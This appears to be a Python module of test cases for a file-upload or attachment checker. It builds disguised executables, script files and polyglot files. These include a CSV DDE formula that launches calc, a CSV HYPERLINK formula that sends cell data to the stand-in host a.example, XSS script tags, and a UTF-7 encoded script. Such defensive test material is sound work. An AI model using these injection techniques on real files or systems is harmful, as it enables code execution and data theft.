"""Programs, scripts and pages, under their own or a borrowed name."""

import struct
from functools import partial

from tests.examination.corpus.making.archive import zip_file
from tests.examination.corpus.making.compound import compound
from tests.examination.corpus.making.pdf import Pdf
from tests.examination.corpus.making.picture import jpeg, png
from tests.examination.corpus.making.plain import letter, lines, web_page

from .case import harmless, refused

SCRIPT = "<script>document.title='x'</script>"
PAGE = partial(web_page, f"<p>通知</p>{SCRIPT}")
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="document.title=1">{SCRIPT}</svg>'.encode()
EXE = b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0\x4c\x01" + bytes(400)
ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HH", 2, 62) + bytes(200)
LINK = bytes.fromhex("4C0000000114020000000000C000000000000046") + bytes(56) + "calc.exe".encode("utf-16-le")

RENAMED = [
    ("html-as-pdf", "通知.pdf", PAGE, "网页冒充 PDF"),
    ("html-as-jpg", "照片.jpg", PAGE, "网页冒充图片"),
    ("html-as-docx", "通知.docx", PAGE, "网页冒充 Word"),
    ("svg", "图.svg", lambda: SVG, "带脚本的 SVG"),
    ("svg-as-png", "图.png", lambda: SVG, "SVG 冒充 PNG"),
    ("svg-packed", "图.svgz", lambda: zip_file([("a.svg", SVG)]), "压缩的 SVG"),
    ("exe", "工具.exe", lambda: EXE, "程序"),
    ("exe-as-pdf", "通知.pdf", lambda: EXE, "程序冒充 PDF"),
    ("exe-as-docx", "通知.docx", lambda: EXE, "程序冒充 Word"),
    ("elf-as-doc", "通知.doc", lambda: ELF, "程序冒充 Word 97"),
    (
        "exe-in-zip",
        "附件.zip",
        lambda: zip_file([("通知.pdf", Pdf([["通知"]]).make()), ("通知.pdf.exe", EXE)]),
        "zip 里的程序",
    ),
    ("exe-in-zip-renamed", "附件.zip", lambda: zip_file([("通知.pdf", EXE)]), "zip 里冒充 PDF 的程序"),
    ("lnk", "通知.lnk", lambda: LINK, "快捷方式"),
    ("lnk-as-doc", "通知.doc", lambda: LINK, "快捷方式冒充 Word"),
    ("url", "通知.url", lambda: lines("[InternetShortcut]", "URL=file://a.example/x.exe"), "网址快捷方式"),
    ("hta", "通知.hta", PAGE, "HTML 应用"),
    ("js", "通知.js", lambda: lines("WScript.Echo(1)"), "脚本"),
    ("vbs", "通知.vbs", lambda: lines("MsgBox 1"), "脚本"),
    ("bat", "通知.bat", lambda: lines("@echo off"), "批处理"),
    ("ps1", "通知.ps1", lambda: lines("Write-Host 1"), "脚本"),
    ("sh", "通知.sh", lambda: lines("#!/bin/sh", "id"), "脚本"),
    ("php", "通知.php", lambda: lines("<?php phpinfo();"), "服务器脚本"),
    (
        "php-as-jpg",
        "照片.php.jpg",
        lambda: jpeg(comment=b"<?php phpinfo();")[:20] + b"<?php phpinfo();",
        "服务器脚本冒充图片，图已残缺",
    ),
    ("jsp", "通知.jsp", lambda: lines("<% out.print(1); %>"), "服务器脚本"),
    ("python", "通知.py", lambda: lines("import os"), "脚本"),
    (
        "jar",
        "工具.jar",
        lambda: zip_file([("META-INF/MANIFEST.MF", b"Main-Class: A\n"), ("A.class", b"\xca\xfe\xba\xbe" + bytes(40))]),
        "Java 程序",
    ),
    (
        "apk",
        "政务通.apk",
        lambda: zip_file(
            [("AndroidManifest.xml", b"\x03\0\x08\0" + bytes(40)), ("classes.dex", b"dex\n035\0" + bytes(40))]
        ),
        "手机程序",
    ),
    (
        "jar-as-docx",
        "通知.docx",
        lambda: zip_file([("META-INF/MANIFEST.MF", b"Main-Class: A\n"), ("A.class", b"\xca\xfe\xba\xbe")]),
        "Java 程序冒充 Word",
    ),
    ("msi", "工具.msi", lambda: compound({"\u4840\u3b3f": b"MSI"}), "安装包"),
    ("iso", "光盘.iso", lambda: bytes(32769) + b"CD001\x01" + bytes(2000), "光盘映像"),
    ("chm", "帮助.chm", lambda: b"ITSF\x03\0\0\0" + bytes(200), "编译的帮助"),
    ("mht", "通知.mht", lambda: letter("x", PAGE(), kind="text/html"), "网页存档"),
    (
        "xml-style",
        "通知.xml",
        lambda: lines('<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="http://a.example/x.xsl"?><a/>'),
        "带样式指令的 XML",
    ),
    ("xhtml", "通知.xhtml", lambda: f'<html xmlns="http://www.w3.org/1999/xhtml">{SCRIPT}</html>'.encode(), "XHTML"),
    ("swf", "动画.swf", lambda: b"CWS\x09" + bytes(100), "Flash"),
    ("reg", "设置.reg", lambda: lines("Windows Registry Editor Version 5.00"), "注册表文件"),
    ("empty", "通知.pdf", bytes, "零字节"),
    ("empty-docx", "通知.docx", bytes, "零字节"),
    ("zeros", "通知.pdf", partial(bytes, 4096), "全是零"),
]

POLYGLOTS = [
    ("polyglot-pdf-html", "通知.pdf", lambda: Pdf([["通知"]]).make() + PAGE(), "PDF 之后接网页"),
    (
        "polyglot-html-pdf",
        "通知.pdf",
        lambda: b"<!--" + Pdf([["通知"]]).make() + b"-->" + SCRIPT.encode(),
        "网页注释里藏着 PDF",
    ),
    ("polyglot-gif-js", "图.gif", lambda: b"GIF89a/*" + bytes(20) + b"*/=1;document.title=1//", "既是 GIF 又是脚本"),
    ("polyglot-jpg-html", "照片.jpg", lambda: jpeg(comment=SCRIPT.encode()), "图片注释里的脚本"),
    ("polyglot-png-html", "图.png", lambda: png(after=PAGE()), "图片之后接网页"),
    (
        "polyglot-jpg-zip",
        "照片.jpg",
        lambda: jpeg(after=zip_file([("A.class", b"\xca\xfe\xba\xbe")])),
        "既是图片又是 zip",
    ),
    (
        "polyglot-pdf-zip",
        "通知.pdf",
        lambda: zip_file([("a.txt", b"a")], prefix=Pdf([["通知"]]).make()),
        "既是 PDF 又是 zip",
    ),
    ("html", "通知.html", PAGE, "带脚本的网页"),
    ("utf7-text", "通知.txt", lambda: b"+ADw-script+AD4-document.title=1+ADw-/script+AD4-", "UTF-7 的脚本"),
    ("text-html", "通知.txt", PAGE, "文本文件里全是标记，浏览器会猜"),
    (
        "csv-formula",
        "名单.csv",
        lambda: "序号,说明\r\n1,\"=cmd|'/c calc'!A1\"\r\n2,@SUM(1)\r\n3,+1\r\n".encode(),
        "CSV 里的公式",
    ),
    (
        "csv-link",
        "名单.csv",
        lambda: '序号\r\n"=HYPERLINK(""http://a.example/?""&A1,""点此"")"\r\n'.encode(),
        "CSV 里向外送数的公式",
    ),
    (
        "eml-quoted",
        "来信.eml",
        lambda: letter("x", PAGE(), "quoted-printable", kind="text/html"),
        "quoted-printable 的网页邮件",
    ),
    ("text-controls", "通知.txt", lambda: b"\x1b]0;x\x07\x1b[2J\0\x08\x08" + "通知".encode(), "终端控制符与空字节"),
]

CASES = [refused(*row) for row in RENAMED] + [harmless(*row) for row in POLYGLOTS]
